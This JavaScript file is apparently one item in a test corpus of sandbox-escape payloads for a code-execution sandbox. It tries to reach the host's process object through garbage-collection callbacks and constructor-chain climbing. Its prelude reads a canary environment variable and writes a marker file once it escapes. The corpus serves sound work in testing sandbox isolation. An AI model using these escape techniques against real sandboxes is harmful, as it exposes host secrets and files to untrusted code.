// @name    FinalizationRegistry callbacks and WeakRef targets receive nothing from the host
// @family  gc-callbacks
// @ref     generic (callbacks run by the engine's GC on the host's schedule)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const held = [];
const registry = new FinalizationRegistry(function (token) { held.push(token); out = out || probe(token) || probe(this); });
for (let i = 0; i < 2000; i++) registry.register({ i, pad: "p".repeat(64) }, { token: i });
const refs = [];
for (let i = 0; i < 100; i++) refs.push(new WeakRef({ i }));
let garbage = [];
for (let i = 0; i < 200; i++) { garbage.push(new Array(1000).fill(i)); if (garbage.length > 20) garbage = []; }
await codemode.demo.echo({ settle: true });
for (let i = 0; i < 5; i++) await null;
for (const r of refs) out = out || probe(r.deref());
out = out || probe(registry);
return out || "blocked (" + held.length + " finalized)";
